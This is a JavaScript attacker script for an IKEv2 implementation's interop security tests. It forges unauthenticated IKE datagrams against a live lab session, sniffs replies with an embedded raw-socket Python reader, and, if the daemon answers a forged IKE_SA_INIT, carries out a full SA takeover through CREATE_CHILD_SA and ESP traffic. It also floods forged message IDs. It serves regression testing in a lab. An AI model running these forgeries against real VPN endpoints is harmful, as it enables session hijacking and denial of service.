// An attacker without keys for test/interop/attacks.test.ts. It forges unauthenticated IKE datagrams that
// target one live IKE_SA of an ikelab daemon, from its own address inside the lab. It prints one JSON report
// on stdout: what it sent, and everything ikelab sent during the attack.
//
// ikelab addresses its IKE answers to the SA's peer (strongSwan's address), not to the sender of a datagram.
// So the attacker cannot only listen on its own socket. It sniffs the lab veth with a small python3 AF_PACKET
// reader (the lab already needs python3) and sees every UDP datagram from the target, whichever address it
// is sent to. This is the view of an on-path attacker.
//
// When ikelab answers a forged IKE_SA_INIT with SA/KE/Nonce (the bug), the attacker goes on with the takeover:
//   1. It derives IKE keys from that answer and its own DH value and nonce.
//   2. It sends a CREATE_CHILD_SA request protected with those keys.
//   3. If the CREATE_CHILD_SA request is accepted, it sends ESP pings through the CHILD_SA it got, to ikelab's
//      virtual host, and reports whether any ESP comes back.
//
// usage: node attacker.mjs --dist DIST_DIR --attack NAME --target IP --bind IP --iface VETH
//          --spi-i HEX --spi-r HEX --role initiator|responder   (the role ikelab has in the IKE_SA)
//          [--port 4500|500] [--mids N[,N...]] [--listen-ms 1000] [--count 100] [--spread-ms 1000]
//          [--exchanges 35,36,34] [--flip-spi] [--ike-proposal aes256-sha256-modp2048]
//          [--esp-proposal aes256-sha256-modp2048] [--ts-i 10.11.0.0/24] [--ts-r 10.12.0.0/24]
//          [--ping-src 10.11.0.1] [--ping-dst 10.12.0.7]
// attacks:
//   init28          IKE_SA_INIT request that is only a header (28 bytes, next payload 0). The live SPIs are used,
//                   and it is sent with the peer's I flag and with the I flag inverted.
//   init-full       Complete IKE_SA_INIT request (SA, KE, Nonce) with the live SPIs, with the takeover above.
//                   With --flip-spi, one bit of the peer's SPI is flipped.
//   wrong-exchange  Responses (R flag) of the given exchange types with a junk SK payload, for the given mids.
//   last-mid        --count requests with the given mid and junk bodies, spread over --spread-ms.
// At the end a canary (a datagram to the target's closed port 9, answered by ICMP) shows that the sniffer saw
// the target: report.snifferOk. Without it, an empty list of answers proves nothing.
import dgram from 'node:dgram';
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';

// ---------------------------------------------------------------------------------------------------------------
// arguments

const args = {};
{
  const a = process.argv.slice(2);
  for (let i = 0; i < a.length; i++) {
    if (!a[i].startsWith('--')) throw new Error(`unexpected argument ${a[i]}`);
    const k = a[i].slice(2);
    if (i + 1 < a.length && !a[i + 1].startsWith('--')) args[k] = a[++i];
    else args[k] = true;
  }
}
const need = (k) => {
  if (typeof args[k] !== 'string') {
    console.error(`attacker: --${k} is required`);
    process.exit(2);
  }
  return args[k];
};
const dist = need('dist');
const attack = need('attack');
const target = need('target');
const bindAddr = need('bind');
const iface = need('iface');
const spiI = Buffer.from(need('spi-i'), 'hex');
const spiR = Buffer.from(need('spi-r'), 'hex');
const role = need('role'); // ikelab's role
if (role !== 'initiator' && role !== 'responder') throw new Error('--role initiator|responder');
const port = Number(args.port ?? 4500);
const mids = String(args.mids ?? '0')
  .split(',')
  .map(Number);
const listenMs = Math.min(Number(args['listen-ms'] ?? 1000), 10_000);
const count = Math.min(Number(args.count ?? 100), 100_000);
const spreadMs = Math.min(Number(args['spread-ms'] ?? 1000), 30_000);
const exchanges = String(args.exchanges ?? '35')
  .split(',')
  .map(Number);
const ikeProposal = args['ike-proposal'] ?? 'aes256-sha256-modp2048';
const espProposal = args['esp-proposal'] ?? 'aes256-sha256-modp2048';
const tsI = args['ts-i'] ?? '10.11.0.0/24'; // the peer's (attacker's) side
const tsR = args['ts-r'] ?? '10.12.0.0/24'; // ikelab's side
const pingSrc = args['ping-src'] ?? '10.11.0.1';
const pingDst = args['ping-dst'] ?? '10.12.0.7';

/** The I flag the real peer puts on its messages: set when ikelab is the responder (the peer initiated). */
const PEER_I = role === 'responder' ? 0x08 : 0x00;
const R = 0x20;

const imp = (rel) => import(pathToFileURL(path.join(dist, rel)).href);
const { decodeMessage, decodePayloads, encodePayloads, encodeSkPrefix } = await imp('wire/message.js');
const { payloadName, charonExchangeName, notifyName } = await imp('wire/names.js');
const { generateDh } = await imp('crypto/dh.js');
const { deriveIkeKeys, deriveChildKeys, isAead } = await imp('crypto/keys.js');
const { createSkCipher } = await imp('crypto/sk.js');
const { parseProposal } = await imp('config/proposals.js');
const { EspOutbound, EspInbound } = await imp('ipsec/esp-sa.js');
const { buildEcho, ipBytes, parseIp4, parseEcho } = await imp('ipsec/packets.js');

const T = { SA: 33, KE: 34, NONCE: 40, NOTIFY: 41, TSi: 44, TSr: 45, SK: 46 };
const X = { IKE_SA_INIT: 34, IKE_AUTH: 35, CREATE_CHILD_SA: 36, INFORMATIONAL: 37 };

// ---------------------------------------------------------------------------------------------------------------
// sniffer: every IPv4 UDP or ICMP packet from the target arriving on the veth, as [u32 length | IP packet] on
// stdout. ICMP is only there for the canary that proves the sniffer works (see the end of this file).

const SNIFFER = `
import os, socket, struct, sys, threading
iface, src = sys.argv[1], socket.inet_aton(sys.argv[2])
def watch():
    sys.stdin.read()
    os._exit(0)
threading.Thread(target=watch, daemon=True).start()
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
s.bind((iface, 0))
out = sys.stdout.buffer
out.write(b'READY\\n'); out.flush()
while True:
    f, a = s.recvfrom(70000)
    if a[2] == socket.PACKET_OUTGOING or len(f) < 34: continue
    ip = f[14:]
    if ip[9] not in (1, 17) or ip[12:16] != src: continue
    out.write(struct.pack('!I', len(ip)) + ip); out.flush()
`;

const t0 = Date.now();
const seen = []; // every datagram from the target: { at, dstAddr, dstPort, srcPort, kind, ike?, esp?, raw }
const waiters = [];

function classify(ip) {
  const ihl = (ip[0] & 15) * 4;
  const dstAddr = [...ip.subarray(16, 20)].join('.');
  if (ip[9] === 1) return { at: Date.now() - t0, dstAddr, kind: 'icmp', type: ip[ihl], code: ip[ihl + 1] };
  const udp = ip.subarray(ihl);
  if (udp.length < 8) return;
  const srcPort = udp.readUInt16BE(0);
  const dstPort = udp.readUInt16BE(2);
  let data = udp.subarray(8, udp.readUInt16BE(4));
  const p = { at: Date.now() - t0, dstAddr, dstPort, srcPort };
  if (srcPort === 4500 && data.length === 1 && data[0] === 0xff) return { ...p, kind: 'keepalive' };
  if (srcPort === 4500) {
    if (data.length >= 4 && data.readUInt32BE(0) === 0) data = data.subarray(4);
    else return { ...p, kind: 'esp', spi: data.subarray(0, 4).toString('hex'), raw: Buffer.from(data) };
  }
  if (data.length < 28) return { ...p, kind: 'runt', length: data.length };
  const h = {
    spiI: data.subarray(0, 8).toString('hex'),
    spiR: data.subarray(8, 16).toString('hex'),
    exchange: data[18],
    exchangeName: charonExchangeName(data[18]),
    initiator: (data[19] & 0x08) !== 0,
    response: (data[19] & R) !== 0,
    mid: data.readUInt32BE(20),
    length: data.length,
  };
  const d = decodeMessage(Buffer.from(data));
  if (d.ok) {
    h.payloads = d.value.payloads.map((x) => (x.type === T.NOTIFY ? `N(${notifyName(x.notifyType)})` : payloadName(x.type)));
  }
  return { ...p, kind: 'ike', ike: h, raw: Buffer.from(data) };
}

function startSniffer() {
  const py = spawn('python3', ['-u', '-c', SNIFFER, iface, target], { stdio: ['pipe', 'pipe', 'inherit'] });
  let buf = Buffer.alloc(0);
  let ready = false;
  let onReady;
  const readyP = new Promise((res, rej) => {
    onReady = res;
    py.once('exit', (c) => rej(new Error(`sniffer exited (${c}) before it was ready`)));
  });
  py.stdout.on('data', (chunk) => {
    buf = Buffer.concat([buf, chunk]);
    if (!ready) {
      const nl = buf.indexOf(10);
      if (nl < 0) return;
      ready = true;
      buf = buf.subarray(nl + 1);
      onReady();
    }
    while (buf.length >= 4 && buf.length >= 4 + buf.readUInt32BE(0)) {
      const n = buf.readUInt32BE(0);
      const pkt = classify(buf.subarray(4, 4 + n));
      buf = buf.subarray(4 + n);
      if (!pkt) continue;
      seen.push(pkt);
      for (const w of [...waiters]) if (w.pred(pkt)) w.done(pkt);
    }
  });
  return {
    ready: readyP,
    stop: () => {
      py.stdin.end();
      py.kill('SIGKILL');
    },
  };
}

/** The first sniffed datagram (already seen or arriving within ms) matching pred, else undefined. */
function waitFor(pred, ms) {
  const hit = seen.find(pred);
  if (hit) return Promise.resolve(hit);
  return new Promise((resolve) => {
    const w = {
      pred,
      done: (p) => {
        clearTimeout(timer);
        waiters.splice(waiters.indexOf(w), 1);
        resolve(p);
      },
    };
    const timer = setTimeout(() => {
      waiters.splice(waiters.indexOf(w), 1);
      resolve(undefined);
    }, ms);
    waiters.push(w);
  });
}
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

// ---------------------------------------------------------------------------------------------------------------
// sending

const sock = dgram.createSocket('udp4');
await new Promise((res, rej) => {
  sock.once('error', rej);
  sock.bind({ address: bindAddr, port: 0 }, res);
});
sock.on('message', () => {}); // answers to us are also sniffed; keep the socket open so no ICMP unreachable goes out
let sent = 0;
const sendRaw = (data, p) =>
  new Promise((res) =>
    sock.send(data, p, target, (err) => {
      if (!err) sent++;
      res();
    }),
  );
const sendIke = (msg) => sendRaw(port === 4500 ? Buffer.concat([Buffer.alloc(4), msg]) : msg, port);
const sendEsp = (esp) => sendRaw(esp, 4500);

function header(exchange, flags, mid, length, next, si = spiI, sr = spiR) {
  const h = Buffer.alloc(28);
  si.copy(h, 0);
  sr.copy(h, 8);
  h[16] = next;
  h[17] = 0x20;
  h[18] = exchange;
  h[19] = flags;
  h.writeUInt32BE(mid >>> 0, 20);
  h.writeUInt32BE(length, 24);
  return h;
}
function junkSk(exchange, flags, mid, bodyLen) {
  const body = randomBytes(bodyLen);
  const g = Buffer.from([41, 0, 0, 0]); // inner "next payload" N: any value, nothing decrypts it
  g.writeUInt16BE(4 + bodyLen, 2);
  return Buffer.concat([header(exchange, flags, mid, 28 + 4 + bodyLen, T.SK), g, body]);
}

function cidr(text) {
  const [a, bits] = text.split('/');
  const start = ipBytes(a);
  const n = Number(bits ?? 32);
  const end = Buffer.from(start);
  for (let i = 0; i < 32 - n; i++) end[3 - (i >> 3)] |= 1 << (i & 7);
  for (let i = 0; i < 32 - n; i++) start[3 - (i >> 3)] &= ~(1 << (i & 7));
  return { tsType: 7, ipProtocol: 0, startPort: 0, endPort: 0xffff, startAddr: start, endAddr: end };
}
const transformOf = (p, type) => p.transforms.find((t) => t.type === type);
function suiteOf(p) {
  const encr = transformOf(p, 1);
  const integ = transformOf(p, 3);
  return {
    encr: encr.id,
    encrKeyBits: encr.keyLength,
    integ: isAead(encr.id) ? undefined : integ?.id,
    prf: transformOf(p, 2)?.id,
    dh: transformOf(p, 4)?.id ?? 0,
  };
}

// ---------------------------------------------------------------------------------------------------------------
// attacks

const report = {
  attack,
  role,
  mids,
  port,
  sent: 0,
  snifferOk: false,
  answers: [],
  toAttacker: [],
  packets: [],
  takeover: undefined,
  errors: [],
};
const summary = (p) => {
  const { raw, ...rest } = p;
  return rest;
};

async function init28() {
  for (const mid of mids) {
    for (const flags of [PEER_I, PEER_I ^ 0x08]) await sendIke(header(X.IKE_SA_INIT, flags, mid, 28, 0));
  }
  await sleep(listenMs);
}

async function initFull() {
  const proposal = { ...parseProposal(ikeProposal, 'ike'), num: 1, spi: Buffer.alloc(0) };
  const group = transformOf(proposal, 4).id;
  const dh = generateDh(group);
  const ni = randomBytes(32);
  let si = spiI;
  let sr = spiR;
  if (args['flip-spi']) {
    // the peer's SPI: SPIi when ikelab is the responder, SPIr when it initiated
    if (role === 'responder') (si = Buffer.from(spiI))[7] ^= 0x01;
    else (sr = Buffer.from(spiR))[7] ^= 0x01;
  }
  const { firstType, bytes } = encodePayloads([
    { type: T.SA, proposals: [proposal] },
    { type: T.KE, group, data: dh.publicKey },
    { type: T.NONCE, data: ni },
  ]);
  for (const mid of mids) {
    const msg = Buffer.concat([header(X.IKE_SA_INIT, PEER_I, mid, 28 + bytes.length, firstType, si, sr), bytes]);
    await sendIke(msg);
  }
  const ans = await waitFor((p) => p.kind === 'ike' && p.ike.exchange === X.IKE_SA_INIT && p.ike.response, listenMs);
  if (!ans) return;
  // The fix is missing: continue the takeover with keys derived from the answer.
  const tk = (report.takeover = {
    initAnswered: true,
    answer: summary(ans),
    childAnswered: false,
    childInstalled: false,
    espSent: 0,
    espAnswered: false,
  });
  const m = decodeMessage(ans.raw);
  if (!m.ok) return void (tk.stoppedAt = `answer does not decode: ${m.error.message}`);
  const find = (list, t) => list.find((x) => x.type === t);
  const saP = find(m.value.payloads, T.SA);
  const ke = find(m.value.payloads, T.KE);
  const nonce = find(m.value.payloads, T.NONCE);
  if (!saP || !ke || !nonce) return void (tk.stoppedAt = 'answer carries no SA/KE/Nonce');
  const suite = suiteOf(saP.proposals[0]);
  const h = m.value.header;
  tk.newSpiI = h.spiI.toString('hex');
  tk.newSpiR = h.spiR.toString('hex');
  const keys = deriveIkeKeys(suite, dh.computeSecret(ke.data), ni, nonce.data, h.spiI, h.spiR);
  // ikelab reads the peer's direction: SK_ei/SK_ai when it is the responder, SK_er/SK_ar when it initiated
  const out = role === 'initiator' ? createSkCipher(suite, keys.skEr, keys.skAr) : createSkCipher(suite, keys.skEi, keys.skAi);
  const inb = role === 'initiator' ? createSkCipher(suite, keys.skEi, keys.skAi) : createSkCipher(suite, keys.skEr, keys.skAr);

  // CREATE_CHILD_SA request: SA (our ESP SPI), Nonce, [KE], TSi, TSr
  const childSpi = randomBytes(4);
  childSpi[0] = 0xa7;
  tk.attackerChildSpi = childSpi.toString('hex');
  const espP = { ...parseProposal(espProposal, 'esp'), num: 1, spi: childSpi };
  const espGroup = transformOf(espP, 4)?.id ?? 0;
  const cdh = espGroup ? generateDh(espGroup) : undefined;
  const cni = randomBytes(32);
  const inner = encodePayloads([
    { type: T.SA, proposals: [espP] },
    { type: T.NONCE, data: cni },
    ...(cdh ? [{ type: T.KE, group: espGroup, data: cdh.publicKey }] : []),
    { type: T.TSi, selectors: [cidr(tsI)] },
    { type: T.TSr, selectors: [cidr(tsR)] },
  ]);
  const cmid = h.messageId + 1;
  const hdr = {
    spiI: h.spiI,
    spiR: h.spiR,
    majorVersion: 2,
    minorVersion: 0,
    exchange: X.CREATE_CHILD_SA,
    initiator: PEER_I !== 0,
    response: false,
    version: false,
    messageId: cmid,
  };
  const prefix = encodeSkPrefix(hdr, inner.firstType, out.bodyLength(inner.bytes.length));
  await sendIke(Buffer.concat([prefix, out.seal(inner.bytes, prefix)]));
  tk.childSent = true;
  const cans = await waitFor(
    (p) => p.kind === 'ike' && p.ike.exchange === X.CREATE_CHILD_SA && p.ike.response && p.ike.mid === cmid,
    listenMs,
  );
  if (!cans) return void (tk.stoppedAt = 'no CREATE_CHILD_SA response');
  tk.childAnswered = true;
  const cm = decodeMessage(cans.raw);
  const sk = cm.ok ? cm.value.payloads[cm.value.payloads.length - 1] : undefined;
  if (!sk || sk.type !== T.SK) return void (tk.stoppedAt = 'CREATE_CHILD_SA response without SK');
  let plain;
  try {
    plain = inb.open(sk.body, cans.raw.subarray(0, cans.raw.length - sk.body.length));
  } catch (e) {
    return void (tk.stoppedAt = `CREATE_CHILD_SA response does not decrypt: ${e.message}`);
  }
  const ip = decodePayloads(sk.innerNext, plain);
  if (!ip.ok) return void (tk.stoppedAt = `CREATE_CHILD_SA response inner: ${ip.error.message}`);
  tk.childResponse = ip.value.map((x) => (x.type === T.NOTIFY ? `N(${notifyName(x.notifyType)})` : payloadName(x.type)));
  const csa = find(ip.value, T.SA);
  const cnr = find(ip.value, T.NONCE);
  const cke = find(ip.value, T.KE);
  if (!csa || !cnr) return void (tk.stoppedAt = 'CHILD_SA refused');
  tk.childInstalled = true;
  const chosen = csa.proposals[0];
  tk.ikelabChildSpi = chosen.spi.toString('hex');
  const cs = suiteOf(chosen);
  const ck = deriveChildKeys(
    suite.prf,
    keys.skD,
    { encr: cs.encr, encrKeyBits: cs.encrKeyBits, integ: cs.integ },
    cni,
    cnr.data,
    cdh && cke ? cdh.computeSecret(cke.data) : undefined,
  );
  const esn = transformOf(chosen, 5)?.id === 1;
  const common = { encr: cs.encr, encrKeyBits: cs.encrKeyBits, integ: cs.integ, esn, replayWindow: 64 };
  const espOut = new EspOutbound({ ...common, spi: chosen.spi, encKey: ck.encrI, integKey: ck.integI });
  const espIn = new EspInbound({ ...common, spi: childSpi, encKey: ck.encrR, integKey: ck.integR });
  for (let seq = 1; seq <= 3; seq++) {
    const echo = buildEcho(ipBytes(pingSrc), ipBytes(pingDst), { request: true, id: 0x7a7a, seq, data: Buffer.from('attacker ping') });
    await sendEsp(espOut.seal(echo, 4));
    tk.espSent++;
  }
  const reply = await waitFor((p) => p.kind === 'esp' && p.spi === tk.attackerChildSpi, listenMs);
  if (!reply) return;
  tk.espAnswered = true;
  const r = espIn.open(reply.raw);
  if (r.ok) {
    const ip4 = parseIp4(r.inner);
    const e = ip4 && parseEcho(ip4);
    tk.espReply = e ? `ICMP echo ${e.request ? 'request' : 'reply'} seq ${e.seq}` : `${r.inner.length} bytes`;
  }
}

async function wrongExchange() {
  for (const mid of mids) for (const ex of exchanges) await sendIke(junkSk(ex, R | PEER_I, mid, 80));
  await sleep(listenMs);
}

async function lastMid() {
  const ex = [X.INFORMATIONAL, X.CREATE_CHILD_SA, X.INFORMATIONAL, X.IKE_AUTH];
  const gap = count > 1 ? spreadMs / count : 0;
  const start = Date.now();
  for (let i = 0; i < count; i++) {
    const mid = mids[i % mids.length];
    const e = ex[i % ex.length];
    await sendIke(i % 10 === 9 ? header(e, PEER_I, mid, 28, 0) : junkSk(e, PEER_I, mid, 16 + ((i * 37) % 180)));
    const due = start + (i + 1) * gap;
    if (due > Date.now()) await sleep(due - Date.now());
  }
  await sleep(listenMs);
}

const sniffer = startSniffer();
try {
  await sniffer.ready;
  const from = Date.now() - t0;
  if (attack === 'init28') await init28();
  else if (attack === 'init-full') await initFull();
  else if (attack === 'wrong-exchange') await wrongExchange();
  else if (attack === 'last-mid') await lastMid();
  else throw new Error(`unknown attack ${attack}`);
  const pkts = seen.filter((p) => p.at >= from);
  report.packets = pkts.map(summary);
  // What counts as an answer to the forged datagrams (ikelab's own requests, e.g. DPD, do not):
  //  - anything sent to the attacker's address;
  //  - any IKE_SA_INIT message;
  //  - any response (R flag) to one of the forged message IDs (for wrong-exchange, any response at all:
  //    the peer is frozen and sends no requests while the attacker runs).
  report.toAttacker = pkts.filter((p) => p.dstAddr === bindAddr && p.kind !== 'icmp').map(summary);
  report.answers = pkts
    .filter((p) => p.kind === 'ike')
    .filter(
      (p) =>
        p.dstAddr === bindAddr ||
        p.ike.exchange === X.IKE_SA_INIT ||
        (p.ike.response && (attack === 'wrong-exchange' || mids.includes(p.ike.mid))),
    )
    .map(summary);
  // Canary: an empty answer list means something only if the sniffer sees the target at all. A datagram to a
  // closed port on the target makes its kernel send ICMP port unreachable, which the sniffer must see.
  const canaryFrom = Date.now() - t0;
  report.sent = sent; // the forged datagrams, without the canary
  await new Promise((res) => sock.send(Buffer.from('canary'), 9, target, res));
  report.snifferOk = !!(await waitFor((p) => p.kind === 'icmp' && p.at >= canaryFrom && p.dstAddr === bindAddr, 1000));
} catch (e) {
  report.errors.push(e instanceof Error ? (e.stack ?? e.message) : String(e));
} finally {
  sniffer.stop();
  sock.close();
}
report.sent ||= sent;
console.log(JSON.stringify(report));
process.exit(report.errors.length ? 1 : 0);
